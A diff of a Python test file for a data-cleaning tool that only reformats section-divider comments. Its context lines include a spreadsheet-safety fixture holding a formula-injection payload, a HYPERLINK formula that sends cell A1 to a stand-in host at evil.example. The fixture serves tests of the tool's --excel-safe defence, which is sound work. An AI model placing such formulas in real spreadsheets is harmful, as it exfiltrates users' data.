@@ -208,7 +208,7 @@ def test_mixed_delimiters_reject_the_odd_row_not_lose_it(
     assert sorted(clean["source_row"].to_list()) == ["1", "3"]
 
 
-# --------------------------------------------------------------------------- encodings, compression, formats
+# ------------------------------------------------------------------ encodings, compression, formats
 
 
 def test_cp1252_without_encoding_points_at_the_option(tmp_path: Path) -> None:
@@ -527,7 +527,7 @@ def test_unreadable_registry_is_an_input_error_naming_it(kind: str, tmp_path: Pa
     assert_input_error(res, registry)
 
 
-# --------------------------------------------------------------------------- property: generated campaigns
+# -------------------------------------------------------------------- property: generated campaigns
 
 GOOD_PHONES = (
     st.integers(10_000_000, 99_999_999)
@@ -680,7 +680,7 @@ def test_generated_campaigns_lose_no_row_and_keep_every_value(campaign) -> None:
         assert set(rejects["reason"]) <= set(ALL_REASONS)
 
 
-# --------------------------------------------------------------------------- spreadsheet safety (--excel-safe)
+# ---------------------------------------------------------------- spreadsheet safety (--excel-safe)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
@@ -754,7 +754,7 @@ def test_excel_safe_leaves_parquet_outputs_unchanged(tmp_path: Path) -> None:
     assert mixed.rejects.equals(plain.rejects)
 
 
-# --------------------------------------------------------------------------- personal data in messages
+# ------------------------------------------------------------------------ personal data in messages
 
 SECRET = "0687412359"  # a number that must never be echoed on stderr
 
